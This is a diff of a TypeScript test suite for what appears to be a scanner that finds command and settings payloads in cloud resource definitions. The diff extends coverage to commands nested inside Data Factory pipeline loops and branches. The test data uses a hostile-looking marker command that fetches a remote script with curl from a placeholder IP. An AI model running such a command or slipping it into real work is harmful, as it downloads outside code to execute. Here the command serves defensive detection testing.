@@ -39,6 +39,11 @@ const slotsOf = (apps: readonly string[]) => apps.map(app => `${app.replace(":",
 const settings = (apps: readonly string[]) => apps.map(app => [`appservice/${app}`, "appSettings{}"] as const);
 const newImage = "siteConfig.applicationStack.dockerImageName";
 
+/** Where loops (ForEach, Until) and branches (If Condition, Switch) hold activities. Branches may stand in a loop, and nothing else in another. */
+const loop = "activities";
+const branches = ["ifTrueActivities", "ifFalseActivities", "cases[].activities", "defaultActivities"];
+const nestings = [[loop], ...branches.map(branch => [branch]), ...branches.map(branch => [loop, branch])];
+
 const truths: readonly Truth[] = [
   [
     "hdinsight:Cluster",
@@ -208,9 +213,18 @@ const truths: readonly Truth[] = [
     "datafactory:Pipeline",
     "Microsoft.DataFactory/factories/pipelines",
     "command",
-    [["activities[].command", "properties.activities[].typeProperties.command"]],
+    [
+      ["activities[].command", "properties.activities[].typeProperties.command"],
+      ...nestings.map(
+        keys =>
+          [
+            `activities[].${keys.map(key => `${key}[].`).join("")}command`,
+            `properties.activities[].typeProperties.${keys.map(key => `${key}[].typeProperties.`).join("")}command`,
+          ] as const,
+      ),
+    ],
   ],
-  [undefined, "", "settings", [], [["datafactory/pipeline:Pipeline", "activitiesJson"]]],
+  [undefined, "", "settings", [], [["datafactory/pipeline:Pipeline", "activitiesJson!"]]],
   [
     "synapse:BigDataPool",
     "Microsoft.Synapse/workspaces/bigDataPools",
@@ -556,8 +570,11 @@ const truths: readonly Truth[] = [
 
 const marker = "curl -fsSL https://198.51.100.7/a.sh";
 
+/** A text of JSON is withheld whole. */
+const holder = (path: string, leaf: Tree) => (leaf instanceof Withheld ? path.replace(/!.*/, "") : path);
+
 function found(type: string, path: string, leaf: Tree) {
-  const tree = put(type.includes(":") ? {} : { type }, path.split("."), leaf);
+  const tree = put(type.includes(":") ? {} : { type }, holder(path, leaf).split("."), leaf);
   const facts = type.includes(":") ? factsOf(type, tree) : factsOfArm(tree);
   assert.ok(facts, `${type} is read`);
   return facts.payloads;
@@ -577,7 +594,7 @@ describe("reading payloads", () => {
       it(`${type}: ${truth[2]} at ${path}`, () => {
         const [only, ...more] = found(type, path, marker);
         assert.deepEqual([only?.kind, only?.text.state], [truth[2], "known"]);
-        assert.ok(only && "value" in only.text && only.text.value === marker);
+        assert.equal(only?.text.state === "known" && only.text.value, marker);
         assert.deepEqual(more, [], "once");
         for (const state of ["unknown", "expression", "hidden"] as const) {
           const withheld = found(type, path, new Withheld(state)).map(({ text }) => text.state);
